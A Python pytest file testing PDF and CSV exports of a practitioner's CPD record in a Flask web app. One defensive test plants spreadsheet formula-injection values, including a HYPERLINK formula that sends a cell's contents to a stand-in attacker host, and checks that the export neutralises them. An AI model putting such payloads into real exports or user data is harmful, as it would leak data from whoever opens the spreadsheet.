"""The CPD record as a PDF and a CSV: the person's complete entries in a period, nothing else."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pypdf
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from tests.cpd.builders import make_entry
from tests.cpd.record_pdf import ask_for_record_pdf
from tests.factories import NOW
from tests.helpers import csrf_token, sign_in
from wfld.accounts.models import User
from wfld.core import clock
from wfld.cpd import record, services
from wfld.extensions import db
from wfld.frameworks.models import Framework, FrameworkItem, FrameworkVersion
from wfld.organisation.models import StaffMember

# Today is 23 November 2026: the last two years run from 24 November 2024; the registration
# year 2026 runs from 1 December 2025 to 30 November 2026.
IN_BOTH = "Chronologies workshop"
IN_TWO_YEARS_ONLY = "Reading on contextual safeguarding"
ENDS_IN_TWO_YEARS = "Three-day course that ended inside the period"
TOO_OLD = "Old course from spring 2024"
DRAFT = "Draft I have not finished"
LONG = "A long reflective piece that runs over several pages"


@pytest.fixture(autouse=True)
def frozen_clock():  # noqa: ANN201
    clock.freeze(NOW)
    yield
    clock.freeze(None)


@pytest.fixture
def entries(app: Flask, org) -> dict[str, int]:  # noqa: ANN001
    staff_id = org.practitioner.staff_id
    with app.app_context():
        made = {
            TOO_OLD: make_entry(staff_id, title=TOO_OLD, started_on=dt.date(2024, 6, 1)),
            ENDS_IN_TWO_YEARS: make_entry(
                staff_id,
                title=ENDS_IN_TWO_YEARS,
                started_on=dt.date(2024, 11, 20),
                ended_on=dt.date(2024, 11, 25),
                hours=Decimal("18"),
            ),
            IN_TWO_YEARS_ONLY: make_entry(
                staff_id, title=IN_TWO_YEARS_ONLY, started_on=dt.date(2025, 6, 10)
            ),
            IN_BOTH: make_entry(
                staff_id,
                title=IN_BOTH,
                started_on=dt.date(2026, 10, 14),
                peer="Talking it through showed me what my chronologies leave out.",
            ),
            LONG: make_entry(
                staff_id,
                title=LONG,
                started_on=dt.date(2026, 3, 2),
                description="\n".join(
                    f"Paragraph {n}: what I read, what I tried and what changed in my visits."
                    for n in range(1, 160)
                ),
            ),
            DRAFT: make_entry(
                staff_id, complete=False, title=DRAFT, started_on=dt.date(2026, 9, 1)
            ),
        }
        return {title: entry.id for title, entry in made.items()}


def _client(app: Flask, email: str) -> FlaskClient:
    client = app.test_client()
    assert sign_in(client, email).status_code == 302
    return client


def _pdf(response) -> pypdf.PdfReader:  # noqa: ANN001
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.data.startswith(b"%PDF-")
    return pypdf.PdfReader(io.BytesIO(response.data))


def _texts(reader: pypdf.PdfReader) -> list[str]:
    """The text of each page, with white space made single spaces."""
    return [" ".join((p.extract_text() or "").split()) for p in reader.pages]


def _csv(response) -> list[list[str]]:  # noqa: ANN001
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _registration(app: Flask, staff_id: int) -> str:
    with app.app_context():
        number = db.session.get(StaffMember, staff_id).registration_number
    assert number, "the practitioner is registered with Social Work England"
    return number


# PDF ------------------------------------------------------------------------------------------
def test_the_pdf_record_for_the_last_two_years(app, org, entries):
    response = ask_for_record_pdf(_client(app, org.practitioner.email))
    disposition = response.headers["Content-Disposition"]
    assert disposition == 'attachment; filename="cpd-record-two-years.pdf"'
    reader = _pdf(response)
    pages = _texts(reader)
    assert len(pages) >= 2, "the long entry runs over more than one page"
    number = _registration(app, org.practitioner.staff_id)
    for n, text in enumerate(pages, start=1):
        assert f"Priya Sandhu · Social Work England registration {number}" in text, f"page {n}"
        assert f"Page {n} of {len(pages)}" in text, f"page {n}"
        assert "CPD record, the last two years" in text, f"page {n}"
    assert "Page 1 of" in pages[0]
    everything = " ".join(pages)
    for title in (IN_BOTH, IN_TWO_YEARS_ONLY, ENDS_IN_TWO_YEARS, LONG):
        assert title in everything
    for title in (TOO_OLD, DRAFT):
        assert title not in everything
    assert "24 November 2024 to 23 November 2026" in pages[0]
    assert re.search(r"Complete entries\s*4\b", pages[0])
    assert re.search(r"With a peer reflection\s*1\b", pages[0])
    assert "Paragraph 159: what I read" in everything, "long text is not cut off"
    # Text extraction may split a word at a kerned pair ("T alking"): compare without spaces.
    squashed = "".join(everything.split())
    assert "Talkingitthroughshowedmewhatmychronologiesleaveout." in squashed


def test_asking_again_for_an_unchanged_record_copies_the_file_not_the_layout(
    app, org, entries, monkeypatch
):
    from wfld.core import pdf

    laid_out = []
    real = pdf.render_pdf
    monkeypatch.setattr(
        pdf, "render_pdf", lambda html, **kw: laid_out.append(1) or real(html, **kw)
    )
    client = _client(app, org.practitioner.email)
    first = ask_for_record_pdf(client)
    again = ask_for_record_pdf(client)
    assert len(laid_out) == 1, "the same record is laid out once"
    assert again.data == first.data
    other_period = ask_for_record_pdf(client, "2026")
    assert len(laid_out) == 2, "another period is another document"
    assert other_period.data != first.data
    with app.app_context():
        make_entry(org.practitioner.staff_id, title="A new course", started_on=dt.date(2026, 11, 2))
    changed = ask_for_record_pdf(client)
    assert len(laid_out) == 3, "a changed record is laid out again"
    assert "A new course" in " ".join(_texts(_pdf(changed)))
    # Someone else asking lays out their own record (the lookup is by the asker's user id).
    _pdf(ask_for_record_pdf(_client(app, org.line_manager.email)))
    assert len(laid_out) == 4


def test_the_pdf_is_a4(app, org, entries):
    reader = _pdf(ask_for_record_pdf(_client(app, org.practitioner.email)))
    for sheet in reader.pages:
        assert float(sheet.mediabox.width) == pytest.approx(595.28, abs=1)
        assert float(sheet.mediabox.height) == pytest.approx(841.89, abs=1)


def test_the_pdf_record_for_a_registration_year(app, org, entries):
    response = ask_for_record_pdf(_client(app, org.practitioner.email), "2026")
    assert response.headers["Content-Disposition"] == ('attachment; filename="cpd-record-2026.pdf"')
    pages = _texts(_pdf(response))
    everything = " ".join(pages)
    assert IN_BOTH in everything
    assert LONG in everything
    for title in (IN_TWO_YEARS_ONLY, ENDS_IN_TWO_YEARS, TOO_OLD, DRAFT):
        assert title not in everything
    assert "1 December 2025 to 30 November 2026" in pages[0]
    assert "Page 1 of" in pages[0]


def test_a_pdf_with_no_entries_says_so(app, org):
    pages = _texts(_pdf(ask_for_record_pdf(_client(app, org.practitioner.email))))
    assert pages[0].count("Page 1 of 1") == 1
    assert "No complete CPD entries in this period." in pages[0]


def test_someone_without_a_registration_has_no_number_in_the_header(app, org, entries):
    pages = _texts(_pdf(ask_for_record_pdf(_client(app, org.other_practitioner.email))))
    assert "Quinn Abara" in pages[0]
    assert "registration" not in pages[0]
    assert IN_BOTH not in " ".join(pages), "only the person's own entries"


@pytest.mark.parametrize("period", ["bogus", "1999", "2028", "two-years-ago", "-2026", "2026.0"])
@pytest.mark.parametrize("kind", ["pdf", "csv"])
def test_an_unknown_period_is_not_found(app, org, period, kind):
    client = _client(app, org.practitioner.email)
    if kind == "pdf":  # asked for with the form's button, which posts
        assert ask_for_record_pdf(client, period).status_code == 404
    else:
        assert client.get(f"/cpd/me/record.{kind}?period={period}").status_code == 404


@pytest.mark.parametrize("kind", ["pdf", "csv"])
def test_anonymous_people_are_sent_to_sign_in(client, org, kind):
    if kind == "pdf":  # the button posts, with the token every page's form carries
        token = csrf_token(client, "/sign-in")
        response = client.post("/cpd/me/record-pdf", data={"csrf_token": token})
    else:
        response = client.get(f"/cpd/me/record.{kind}")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/sign-in")


# CSV ------------------------------------------------------------------------------------------
def test_the_csv_record_has_a_row_per_complete_entry_in_the_period(app, org, entries):
    client = _client(app, org.practitioner.email)
    response = client.get("/cpd/me/record.csv")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="cpd-record-two-years.csv"'
    )
    rows = _csv(response)
    assert rows[0] == record.CSV_HEADER
    assert rows[0][:3] == ["Title", "Date", "End date"]
    assert [row[0] for row in rows[1:]] == [ENDS_IN_TWO_YEARS, IN_TWO_YEARS_ONLY, LONG, IN_BOTH]
    assert all(len(row) == len(record.CSV_HEADER) for row in rows)
    by_title = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    course = by_title[ENDS_IN_TWO_YEARS]
    assert (course["Date"], course["End date"], course["Hours"]) == (
        "2024-11-20",
        "2024-11-25",
        "18",
    )
    assert by_title[IN_BOTH]["Peer reflection"] == (
        "Talking it through showed me what my chronologies leave out."
    )
    assert by_title[IN_BOTH]["Discussed with (role)"] == "a senior social worker"
    assert by_title[LONG]["Short description and why it is relevant"].count("\n") == 158

    year = _csv(client.get("/cpd/me/record.csv?period=2026"))
    assert [row[0] for row in year[1:]] == [LONG, IN_BOTH]


def test_the_csv_of_someone_with_no_entries_is_just_the_header(app, org, entries):
    rows = _csv(_client(app, org.other_practitioner.email).get("/cpd/me/record.csv"))
    assert rows == [record.CSV_HEADER]


def test_csv_cells_that_a_spreadsheet_would_run_are_made_plain_text(app, org):
    with app.app_context():
        make_entry(
            org.practitioner.staff_id,
            title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            description="+ what went well\nand a second line",
            learning="-1+1 is how I used to think about risk",
            impact="@SUM(A1:A9) of my visits changed",
            peer="=1+1",
            peer_role="@team manager",
        )
    rows = _csv(_client(app, org.practitioner.email).get("/cpd/me/record.csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["Short description and why it is relevant"] == (
        "'+ what went well\nand a second line"
    )
    assert row["What I learnt"] == "'-1+1 is how I used to think about risk"
    assert row["Impact on my practice and on the people I work with"] == (
        "'@SUM(A1:A9) of my visits changed"
    )
    assert row["Peer reflection"] == "'=1+1"
    assert row["Discussed with (role)"] == "'@team manager"
    for cell in rows[1]:
        assert cell[:1] not in ("=", "+", "-", "@"), cell


def test_line_breaks_commas_and_quotes_survive_the_csv(app, org):
    text = 'First line, with a comma\nSecond line with "quotes"\n\nA new paragraph'
    with app.app_context():
        make_entry(org.practitioner.staff_id, title='Title, "quoted"', learning=text)
    rows = _csv(_client(app, org.practitioner.email).get("/cpd/me/record.csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Title"] == 'Title, "quoted"'
    assert row["What I learnt"] == text


def test_the_csv_lists_framework_items_and_evidence(app, org):
    assert app.test_cli_runner().invoke(args=["seed", "frameworks"]).exit_code == 0
    with app.app_context():
        item = db.session.scalar(
            select(FrameworkItem.id)
            .join(FrameworkVersion, FrameworkVersion.id == FrameworkItem.version_id)
            .join(Framework, Framework.id == FrameworkVersion.framework_id)
            .where(Framework.code == "PCF", FrameworkItem.code == "5")
        )
        assert item is not None
        entry = make_entry(org.practitioner.staff_id, tag_ids={item})
        for name in ("certificate.pdf", "notes.txt"):
            services.add_evidence(
                entry=entry,
                stream=io.BytesIO(b"%PDF-1.4\n%%EOF\n" if name.endswith("pdf") else b"notes"),
                filename=name,
                quota_bytes=10**6,
                actor=db.session.get(User, org.practitioner.user_id),
                now=NOW,
            )
        db.session.commit()
    client = _client(app, org.practitioner.email)
    rows = _csv(client.get("/cpd/me/record.csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    # The framework and item by name, not by code alone.
    assert row["Framework items"] == "Professional Capabilities Framework: 5 Knowledge"
    assert row["Evidence files"] == "certificate.pdf; notes.txt"
    pages = _texts(_pdf(ask_for_record_pdf(client)))
    assert "certificate.pdf; notes.txt" in " ".join(pages)
